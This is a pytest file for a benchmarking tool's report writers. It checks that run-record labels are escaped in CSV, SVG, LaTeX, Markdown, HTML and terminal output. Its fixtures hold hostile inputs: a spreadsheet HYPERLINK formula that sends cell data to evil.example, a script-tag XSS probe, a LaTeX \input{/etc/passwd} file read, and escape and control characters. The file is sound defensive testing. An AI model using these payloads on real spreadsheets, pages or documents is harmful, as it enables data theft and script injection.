"""Strings from run records are text in every output, never code (docs/reliability.md §9): CSV cells are never
read as spreadsheet formulas (numbers stay numbers), SVG stays valid XML, LaTeX and Markdown are escaped, the
HTML report and the terminal get no markup and no control characters."""
from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from helpers import ensure_registered

from peftbench import _text
from peftbench.cli import main
from peftbench.store import RunRecord, RunSpec, RunStore

ensure_registered()

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "<script>alert(1)</script>", "\x1b[31mred\x1b[0m",
           "bell\x07", r"\input{/etc/passwd}", "&%$#_{}", "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "a--><b>c",
           "two\nlines|x", "dollar $x^2$ math", "rtl\u202eevil"]
EVIL_SUITE = "=cmd<i>&%$#_{}"  # a suite no plugin registers: its name and task names come from the records
EVIL_TASK = "=2+3<b>"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202e]")  # what must never reach a file or a terminal raw
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _write(store: RunStore, *, config: str, task: str, suite: str, seed: int, top1: float, status: str = "ok",
           error: str | None = None) -> None:
    spec = RunSpec(method="linear", task=task, suite=suite, protocol="fixed", stage="final",
                   train_split="train800val200", eval_split="test", hparams={"lr": 0.1, "wd": 0.0, "epochs": 2},
                   seed=seed, config=config, backbone="vit-test", options={"label": config})
    rec = RunRecord.for_spec(spec, status=status, error=error, ended_at="2025-01-01T00:00:00+00:00",
                             provenance={"device": config}, metrics={"top1": top1} if status == "ok" else {},
                             params={"trainable": 10, "trainable_without_head": 5, "tuned_total_pct": 0.5,
                                     "total": 100}, timing={"memory_kind": config, "train_images_per_s": 5.0})
    store.write(spec, rec)


def _store(root: Path, shift: float = 0.0) -> Path:
    store = RunStore(root)
    for i, label in enumerate(HOSTILE):
        for seed in (1, 2):
            for task in ("toy", "toy_b"):
                _write(store, config=label, task=task, suite="testsuite", seed=seed, top1=50.0 + i + seed + shift)
        _write(store, config=label, task="toy", suite="testsuite", seed=3, top1=0.0, status="failed",
               error=f"Traceback\nRuntimeError: {label}")
        _write(store, config=label, task=EVIL_TASK, suite=EVIL_SUITE, seed=1, top1=40.0 + i + shift)
    return root


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    a, b = _store(tmp / "a"), _store(tmp / "b", shift=-1.5)  # B − A = -1.5: negative numbers in the CSVs
    out = tmp / "out"
    import contextlib
    import io

    err, std = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(std):
        assert main(["leaderboard", "--runs-dir", str(a), "--out", str(out), "--compare", str(b)]) == 0
        assert main(["compare", str(a), str(b), "--out", str(tmp / "cmp")]) == 0
        for fmt in ("latex", "markdown"):
            assert main(["leaderboard", "--runs-dir", str(a), "--format", fmt]) == 0
        assert main(["status", "--runs-dir", str(a), "--all", "--no-query"]) == 0
    return tmp, out, std.getvalue() + err.getvalue()


def test_every_output_file_was_written(outputs):
    tmp, out, _ = outputs
    names = {p.name for p in out.iterdir()}
    for suite in ("testsuite", EVIL_SUITE):
        for ext in ("leaderboard.csv", "runs.csv", "compare.csv", "pareto.svg", "tasks.svg", "table.tex", "table.md",
                    "report.html"):
            assert f"{suite}-{ext}" in names, (suite, ext)


def test_csv_cells_are_never_formulas_and_numbers_stay_numbers(outputs):
    tmp, out, _ = outputs
    files = sorted(out.glob("*.csv")) + sorted((tmp / "cmp").glob("*.csv"))
    assert len(files) >= 6
    negatives = 0
    labels = set()
    for f in files:
        for row in csv.reader(open(f, newline="", encoding="utf-8")):
            for cell in row:
                assert not CONTROL.search(cell), (f.name, cell)
                if cell.startswith(FORMULA):
                    assert NUMBER.fullmatch(cell), (f.name, cell)  # only a number may start like a formula
                    negatives += cell.startswith("-")
                labels.add(cell)
    assert negatives > 0  # e.g. the compare deltas, -1.5000: written as numbers, not neutralised
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")" in labels
    assert "'-2+3" in labels and "'+1+2" in labels and "'@SUM(A1)" in labels and "'\\x09TAB" in labels
    assert "<script>alert(1)</script>" in labels  # CSV is data: the text itself, readable
    headers = [next(csv.reader(open(f, newline="", encoding="utf-8"))) for f in files]
    assert not any(h.startswith(("=", "+", "@")) for hs in headers for h in hs)


def test_svg_files_are_valid_xml_without_scripts_or_control_characters(outputs):
    _, out, _ = outputs
    svgs = sorted(out.glob("*.svg"))
    assert len(svgs) == 4
    for f in svgs:
        data = f.read_bytes()
        tree = ET.fromstring(data)  # a control character would make this fail
        assert not [e for e in tree.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")]
        assert not CONTROL.search(data.decode("utf-8"))
        assert b"<script" not in data


def test_latex_is_escaped(outputs):
    _, out, stdout = outputs
    for f in out.glob("*.tex"):
        tex = f.read_text()
        assert not CONTROL.search(tex)
        assert r"\input{/etc/passwd}" not in tex and r"\textbackslash{}input\{/etc/passwd\}" in tex
        assert r"\&\%\$\#\_\{\}" in tex
        assert "$x^2$" not in tex
        for line in tex.splitlines():  # no label opens a cell or comments out the rest of a row
            if line.endswith(r"\\") and not line.startswith(("%", r"\multicolumn", "Method", " &")):
                assert len(re.findall(r"(?<!\\)&", line)) == tex.splitlines()[[i for i, x in enumerate(
                    tex.splitlines()) if x.startswith("Method")][0]].count("&"), line


def test_latex_with_hostile_labels_compiles(outputs, tmp_path):
    engine = shutil.which("pdflatex")
    if engine is None:
        if os.environ.get("PEFTBENCH_REQUIRE_LATEX") == "1":
            pytest.fail("PEFTBENCH_REQUIRE_LATEX=1 but no pdflatex was found")
        pytest.skip("no pdflatex")
    _, out, _ = outputs
    shutil.copy(out / "testsuite-table.tex", tmp_path / "table.tex")
    (tmp_path / "doc.tex").write_text("\\documentclass{article}\n\\usepackage{booktabs}\n\\usepackage{graphicx}\n"
                                      "\\begin{document}\n\\input{table.tex}\n\\end{document}\n")
    res = subprocess.run([engine, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "doc.tex"],
                         cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stdout[-3000:]
    assert "(/etc/passwd" not in (tmp_path / "doc.log").read_text(errors="replace")  # never opened as input


def test_markdown_escapes_html_and_its_own_syntax(outputs):
    _, out, _ = outputs
    for f in out.glob("*.md"):
        md = f.read_text()
        assert not CONTROL.search(md)
        assert "<script>" not in md and "&lt;script&gt;" in md and "<b>" not in md and "<i>" not in md
        rows = [line for line in md.splitlines() if line.startswith("| ")]
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
        assert len(widths) == 1, widths  # no label adds or removes a column


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)


def test_the_html_reports_escape_every_label(outputs):
    tmp, out, _ = outputs
    for f in list(out.glob("*.html")) + list((tmp / "cmp").glob("*.html")):
        page = f.read_text()
        assert not CONTROL.search(page)
        parser = _Tags()
        parser.feed(page)
        assert parser.tags.count("script") <= 1  # the report's own five-line script only
        assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "a--><b>c" not in page and "a--&gt;&lt;b&gt;c" in page
        if EVIL_SUITE.split("<")[0] in page:
            assert "=2+3<b>" not in page and "=cmd<i>" not in page


def test_no_control_character_reaches_the_terminal(outputs):
    _, _, printed = outputs
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    assert "\\x1b[31mred" in printed  # shown, visibly


@pytest.mark.parametrize("cell,want", [("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("-inf", "-inf"), ("=1+1", "'=1+1"),
                                       ("-x", "'-x"), ("@a", "'@a"), ("\t=1", "'\\x09=1"), ("plain", "plain"),
                                       ("a\nb", "a\nb"), ("\x1b[0m", "\\x1b[0m"), (None, ""), (-2, "-2")])
def test_csv_cell(cell, want):
    assert _text.csv_cell(cell) == want


def test_the_text_functions():
    assert _text.latex("\\input{x}&%$#_{}~^") == r"\textbackslash{}input\{x\}\&\%\$\#\_\{\}\textasciitilde{}\textasciicircum{}"
    assert _text.markdown("<b>|*_`[x]") == r"&lt;b&gt;\|\*\_\`\[x\]"
    assert _text.html("<a href='x'>\x07") == "&lt;a href=&#x27;x&#x27;&gt;\\x07"
    assert _text.plot_text("$x$\x1b") == r"\$x\$\x1b"
    assert _text.terminal("a\nb\x1b[31m\r") == "a\nb\\x1b[31m\\x0d"
    assert _text.printable("\ufffe") == "\\ufffe"
